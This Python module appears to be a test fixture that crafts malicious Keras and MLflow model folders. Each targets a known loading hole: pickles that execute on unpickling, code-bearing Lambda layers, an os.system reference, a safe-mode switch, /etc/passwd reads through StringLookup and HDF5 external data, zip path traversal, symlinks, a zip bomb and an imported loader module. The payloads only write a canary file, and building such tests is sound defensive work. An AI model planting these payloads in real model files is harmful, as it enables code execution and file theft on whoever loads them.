"""Models that mean harm, one for each published class of hole in Keras and MLflow; a canary says that one was run.

Each payload changes an MLflow model's folder in place, in which `data/model.keras` is a sound model of this project.
"""

import base64
import io
import json
import pickle
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import yaml

MODEL, CONFIG, WEIGHTS = "data/model.keras", "config.json", "model.weights.h5"
Payload = Callable[[Path, Path], None]


class Pickled:
    """An object that makes the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
        return open, (str(self.canary), "w")


def singing_layer(canary: Path) -> keras.layers.Layer:
    """Make a Lambda whose code makes the canary; in a file the code stands marshalled."""
    return keras.layers.Lambda(eval(f"lambda pixels: (open({str(canary)!r}, 'w').close(), pixels)[1]"))


def lambda_layer(folder: Path, canary: Path) -> None:
    keras.Sequential([keras.Input((28, 28, 1)), singing_layer(canary)]).save(folder / MODEL)
    canary.unlink(missing_ok=True)


def legacy_hdf5(folder: Path, canary: Path) -> None:
    """Save in the old format, in which safe mode has not always held."""
    keras.Sequential([keras.Input((28, 28, 1)), singing_layer(canary)]).save(folder / "model.h5")
    (folder / "model.h5").replace(folder / MODEL)
    canary.unlink(missing_ok=True)


def imported_function(folder: Path, _: Path) -> None:
    _with_layer(folder, module="os", class_name="function", config="system", registered_name="system")


def fetched_file(folder: Path, canary: Path) -> None:
    settings = {"origin": "file:///etc/hostname", "fname": str(canary)}
    _with_layer(folder, module="keras.utils", class_name="get_file", config=settings, registered_name=None)


def registered_class(folder: Path, _: Path) -> None:
    _with_layer(folder, module=None, class_name="Evil", config={}, registered_name="my_package>Evil")


def pickled_torch_module(folder: Path, canary: Path) -> None:
    module = base64.b64encode(pickle.dumps(Pickled(canary))).decode()
    settings = {"name": "torch", "module": {"class_name": "__bytes__", "config": {"value": module}}}
    _with_layer(folder, module="keras.layers", class_name="TorchModuleWrapper", config=settings, registered_name=None)


def vocabulary_from_a_file(folder: Path, _: Path) -> None:
    settings = {"name": "words", "vocabulary": "/etc/passwd"}
    _with_layer(folder, module="keras.layers", class_name="StringLookup", config=settings, registered_name=None)


def saved_model(folder: Path, canary: Path) -> None:
    settings = {"name": "saved", "filepath": str(canary.parent), "call_endpoint": "serve"}
    _with_layer(folder, module="keras.layers", class_name="TFSMLayer", config=settings, registered_name=None)


def unsafe_switch(folder: Path, _: Path) -> None:
    """Ask Keras, while it loads, to leave its safe mode."""
    function = "enable_unsafe_deserialization"
    _with_layer(folder, module="keras.config", class_name="function", config=function, registered_name=function)


def built_for_more_memory_than_there_is(folder: Path, _: Path) -> None:
    def change(config: dict[str, Any]) -> None:
        config["config"]["layers"][-1]["build_config"] = {"input_shape": [None, 10**11]}

    _with_config(folder, change)


def external_link(folder: Path, canary: Path) -> None:
    def change(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(canary.with_suffix(".h5")), "/data")

    _with_weights(folder, change)


def external_data(folder: Path, _: Path) -> None:
    def change(file: h5py.File) -> None:
        del file["layers/dense/vars/1"]
        file.create_dataset("layers/dense/vars/1", (12,), "float32", external=[("/etc/passwd", 0, 48)])

    _with_weights(folder, change)


def climbing_member(folder: Path, canary: Path) -> None:
    with zipfile.ZipFile(folder / MODEL, "a") as archive:
        archive.writestr("../" * 20 + str(canary)[1:], "sung")


def link_among_the_members(folder: Path, canary: Path) -> None:
    members = _members(folder)
    with zipfile.ZipFile(folder / MODEL, "w") as archive:
        for name in (CONFIG, WEIGHTS):
            archive.writestr(name, members[name])
        link = zipfile.ZipInfo("assets")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(canary.parent))
        archive.writestr("assets/canary", "sung")


def zip_bomb(folder: Path, _: Path) -> None:
    bomb = _members(folder) | {WEIGHTS: bytes(80_000_000)}
    _pack(folder, bomb, zipfile.ZIP_DEFLATED)


def pickle_for_a_model(folder: Path, canary: Path) -> None:
    (folder / MODEL).write_bytes(pickle.dumps(Pickled(canary)))


def model_of_another_project(folder: Path, _: Path) -> None:
    layers = [keras.Input((28, 28, 1)), keras.layers.Flatten(), keras.layers.Dense(10, activation="softmax")]
    keras.Sequential(layers).save(folder / MODEL)


def folder_for_a_model(folder: Path, _: Path) -> None:
    (folder / MODEL).unlink()
    (folder / MODEL).mkdir()
    (folder / MODEL / "model.keras").write_bytes(b"")


def link_out_of_the_store(folder: Path, canary: Path) -> None:
    outside = canary.with_name("outside.keras")
    (folder / MODEL).replace(outside)
    (folder / MODEL).symlink_to(outside)


# What Keras or MLflow would load in place of the model, or on the way to it.
IN_PLACE: dict[str, Payload] = {
    "a Lambda": lambda_layer,
    "a Lambda in the old HDF5 format": legacy_hdf5,
    "a function of os": imported_function,
    "a function that fetches a file": fetched_file,
    "a function that leaves the safe mode": unsafe_switch,
    "a class that was registered elsewhere": registered_class,
    "a pickled module of PyTorch": pickled_torch_module,
    "a vocabulary in a file of the machine": vocabulary_from_a_file,
    "a TFSMLayer": saved_model,
    "a layer built for terabytes": built_for_more_memory_than_there_is,
    "an HDF5 link to another file": external_link,
    "an HDF5 array in another file": external_data,
    "a member whose name climbs": climbing_member,
    "a link among the members": link_among_the_members,
    "a zip bomb": zip_bomb,
    "a pickle": pickle_for_a_model,
    "a model of another project": model_of_another_project,
    "a folder": folder_for_a_model,
    "a link out of the store": link_out_of_the_store,
}


def python_model(folder: Path, canary: Path) -> None:
    """Turn the folder into a pickled pyfunc model, as MLflow logs one."""
    (folder / "python_model.pkl").write_bytes(pickle.dumps(Pickled(canary)))
    _with_flavour(folder, loader_module="mlflow.pyfunc.model", python_model="python_model.pkl")


def loader_module(folder: Path, canary: Path) -> None:
    """Name a module of the folder's own code, which MLflow imports to load the model."""
    (folder / "code").mkdir()
    (folder / "code" / "evil_loader.py").write_text(
        f"open({str(canary)!r}, 'w').close()\n\n"
        "class Model:\n    predict = print\n\n"
        "def _load_pyfunc(path):\n    return Model\n"
    )
    _with_flavour(folder, loader_module="evil_loader", code="code")


def custom_objects(folder: Path, canary: Path) -> None:
    """Lay pickled custom objects beside the model, where MLflow's TensorFlow flavour looks for them."""
    for name in ("custom_objects.cloudpickle", "global_custom_objects.cloudpickle"):
        (folder / "data" / name).write_bytes(pickle.dumps(Pickled(canary)))
    (folder / "data" / "save_format.txt").write_text("h5")
    (folder / "data" / "keras_module.txt").write_text("os")


# What MLflow would load beside a sound model, because its description or its folder says so.
BESIDE: dict[str, Payload] = {
    "a pickled pyfunc model": python_model,
    "a loader module with its code": loader_module,
    "pickled custom objects": custom_objects,
}


def _members(folder: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(folder / MODEL) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _pack(folder: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(folder / MODEL, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _with_config(folder: Path, change: Callable[[dict[str, Any]], None]) -> None:
    members = _members(folder)
    config = json.loads(members[CONFIG])
    change(config)
    _pack(folder, members | {CONFIG: json.dumps(config).encode()})


def _with_layer(folder: Path, **layer: object) -> None:
    def change(config: dict[str, Any]) -> None:
        config["config"]["layers"][1] = layer

    _with_config(folder, change)


def _with_weights(folder: Path, change: Callable[[h5py.File], None]) -> None:
    members = _members(folder)
    weights = io.BytesIO(members[WEIGHTS])
    with h5py.File(weights, "a") as file:
        change(file)
    _pack(folder, members | {WEIGHTS: weights.getvalue()})


def _with_flavour(folder: Path, **settings: str) -> None:
    card = folder / "MLmodel"
    content = yaml.safe_load(card.read_text(encoding="utf-8"))
    content["flavors"]["python_function"] = settings | {"env": {}}
    card.write_text(yaml.safe_dump(content), encoding="utf-8")
